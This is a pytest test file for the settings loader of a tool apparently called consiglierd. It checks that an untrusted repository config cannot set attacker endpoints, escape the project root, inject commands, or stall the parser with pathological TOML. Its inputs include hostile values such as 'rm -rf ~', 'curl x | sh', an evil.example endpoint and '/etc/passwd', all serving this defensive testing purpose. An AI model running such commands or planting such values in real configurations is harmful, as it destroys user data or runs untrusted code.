"""A repository's settings file is untrusted: what it may not choose, and how much it may hold."""

import time
from pathlib import Path

import pytest

from consiglierd.settings.load import load_settings


def write(root: Path, text: str) -> None:
    (root / ".consigliere.toml").write_text(text, encoding="utf-8")


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ('[embedding]\nendpoint = "http://evil.example:80"\n', "embedding.endpoint"),
        ('[embedding]\nmodel = "evil/model"\n', "embedding.model"),
        ('[embedding]\nbackend = "ollama"\n', "embedding.backend"),
        ('[embedding]\nbackend = "sentence-transformers"\n', "embedding.backend"),
    ],
)
def test_a_repository_cannot_name_endpoints_and_models_until_trusted(tmp_path: Path, text: str, name: str) -> None:
    write(tmp_path, text)
    refused = load_settings(tmp_path)
    assert refused.settings == load_settings(tmp_path / "nowhere").settings
    (problem,) = refused.problems
    assert name in problem.message
    assert "not trusted" in problem.message
    assert "your own settings file" in problem.cure
    trusted = load_settings(tmp_path, is_trusted=True)
    assert trusted.problems == ()
    assert trusted.provenance[name] == ".consigliere.toml:2"


def test_a_repository_may_repeat_what_the_user_chose_and_may_do_without_vectors(tmp_path: Path) -> None:
    user_file = tmp_path / "config.toml"
    user_file.write_text('[embedding]\nendpoint = "http://box:11434"\n', encoding="utf-8")
    write(tmp_path, '[embedding]\nendpoint = "http://box:11434"\nbackend = "none"\n')
    loaded = load_settings(tmp_path, user_file=user_file)
    assert loaded.problems == ()
    assert loaded.settings.embedding.backend == "none"


@pytest.mark.parametrize(
    "glob",
    ["/etc/*", "../other/**", "docs/../../x", "~/notes/*", "C:/x", "docs\\x", "a\nb", "", "*a" * 13, "x" * 257],
)
@pytest.mark.parametrize("key", ["paths", "exclude", "code_paths"])
def test_patterns_stay_under_the_root_and_cheap_even_when_trusted(tmp_path: Path, key: str, glob: str) -> None:
    quoted = glob.replace("\\", "\\\\").replace("\n", "\\n")
    write(tmp_path, f'[index]\n{key} = ["docs/*.md", "{quoted}"]\n')
    loaded = load_settings(tmp_path, is_trusted=True)
    assert len(loaded.problems) == 1
    assert loaded.provenance[f"index.{key}"] == "default"


def test_a_type_pattern_cannot_leave_the_root(tmp_path: Path) -> None:
    write(tmp_path, '[types]\n"/etc/passwd" = "spec"\n"../x" = "spec"\n')
    loaded = load_settings(tmp_path)
    assert len(loaded.problems) == 2
    assert loaded.settings.types == {}


def test_a_command_is_just_an_unknown_setting(tmp_path: Path) -> None:
    write(tmp_path, 'command = "rm -rf ~"\n[index]\nhook = "curl x | sh"\n[hooks]\npost = "sh"\n')
    loaded = load_settings(tmp_path)
    assert [problem.line for problem in loaded.problems] == [1, 3, 4]
    assert loaded.settings == load_settings(tmp_path / "nowhere").settings


def test_what_a_trusted_file_named_does_not_outlive_the_trust(tmp_path: Path) -> None:
    write(tmp_path, '[embedding]\nmodel = "own"\n')
    good = load_settings(tmp_path, is_trusted=True)
    write(tmp_path, "[embedding]\nmodel = 3\n")
    assert load_settings(tmp_path, last_good=good).settings.embedding.model == "nomic-embed-text"


def test_rooms_roles_tags_and_problems_are_bounded(tmp_path: Path) -> None:
    rooms = "".join(f'r{number} = ["w"]\n' for number in range(500))
    tags = "".join(f'{"t" * 40}{number} = ["w"]\n' for number in range(60))
    roles = "".join(f"[roles.x{number}]\ntypes = {{ nothing = 1 }}\n" for number in range(500))
    write(tmp_path, f"[rooms]\n{rooms}[tags]\n{tags}{roles}")
    loaded = load_settings(tmp_path)
    assert sum(name.startswith("r") for name in loaded.settings.rooms) == 64
    assert sum(name.startswith("x") for name in loaded.settings.roles) == 64
    assert len(loaded.problems) <= 100
    write(tmp_path, "[rooms]\nbig = [" + '"w",' * 300 + "]\n")
    assert "big" not in load_settings(tmp_path).settings.rooms


def test_a_problem_shows_a_hostile_value_short_and_printable(tmp_path: Path) -> None:
    write(tmp_path, '[search]\nfusion = "' + "\\u001b[31m" * 1000 + '"\n')
    (problem,) = load_settings(tmp_path).problems
    assert "\x1b" not in str(problem)
    assert len(str(problem)) < 300


@pytest.mark.parametrize(
    "text",
    [
        ".".join(["a"] * 60_000) + " = 1\n",
        "a = " + "{b = " * 40_000,
        "[a]\n" * 60_000,
        '"' * 200_000,
        "[" + ".".join(["a"] * 50_000) + "]\nb = 1\n" * 20,
        "x = '''" + "'" * 200_000,
        'x = """' + '\\"""' * 50_000 + "\\",
        'x = "' + '\\"' * 100_000 + "\\",
    ],
)
def test_hostile_toml_is_refused_in_bounded_time(tmp_path: Path, text: str) -> None:
    write(tmp_path, text)
    started = time.process_time()
    loaded = load_settings(tmp_path)
    assert time.process_time() - started < 5
    assert loaded.problems
